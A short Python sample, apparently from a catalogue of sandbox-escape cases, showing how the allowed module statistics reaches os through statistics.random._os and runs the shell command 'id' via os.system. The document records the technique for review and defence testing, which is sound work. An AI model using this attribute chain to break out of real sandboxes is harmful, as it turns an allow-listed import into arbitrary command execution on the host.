# Source: public sandbox review: statistics.random._os.system('id') ran id
# Family: module-attribute
# What: statistics.random._os: a two-hop chain from an allowed module
import statistics

statistics.random._os.system("id")
